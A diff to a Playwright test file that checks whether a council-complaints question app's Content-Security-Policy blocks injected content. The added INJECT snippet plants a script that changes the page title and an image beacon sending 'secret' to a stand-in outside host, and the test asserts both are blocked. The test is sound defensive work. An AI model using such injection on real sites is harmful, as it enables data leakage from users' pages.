@@ -14,6 +14,18 @@ from tests.deploy.running import Proxy
 
 HOUSING = "how many housing complaints in 2018?"
 ANSWER = "Chesterfield Borough Council: 6 complaints and enquiries about Housing"
+OTHER_QUESTIONS = (
+    "the decisions table for Chesterfield 2018",
+    "Chesterfield's upheld complaints since 2015",
+    "top 5 councils for planning complaints in 2018",
+)
+INJECT = """() => {
+    const script = document.createElement("script");
+    script.textContent = "document.title = 'taken'";
+    const image = document.createElement("img");
+    image.src = "https://stranger.example/?q=secret";
+    document.body.append(script, image);
+}"""
 OPEN_WEBSOCKET = """address => new Promise(resolve => {
     const opened = new WebSocket(address, ["streamlit"]);
     opened.onopen = () => resolve("opened");
@@ -46,13 +58,19 @@ def test_every_room_of_the_bare_page_keeps_its_policy(page_port: int, browser: B
         expect(seen.page.get_by_role("img", name="Page 3 of", exact=False).last).to_be_visible(
             timeout=MILLISECONDS
         )
-        ask(seen.page, "the decisions table for Chesterfield 2018")
-        see(seen.page, "the decisions table for Chesterfield 2018")
+        for question in OTHER_QUESTIONS:
+            ask(seen.page, question)
+            see(seen.page, question)
         seen.page.wait_for_timeout(1500)
         seen.shoot("bare")
         assert seen.told == []
         own = (f"http://127.0.0.1:{page_port}/letters/", f"ws://127.0.0.1:{page_port}/letters/")
         assert [each for each in seen.requested if not each.startswith((*own, "data:"))] == []
+        seen.page.evaluate(INJECT)
+        seen.page.wait_for_timeout(500)
+        stopped = {told.split()[1] for told in seen.told if told.startswith("VIOLATION")}
+        assert stopped == {"script-src-elem", "img-src"}
+        assert seen.page.title() != "taken"
 
 
 @pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
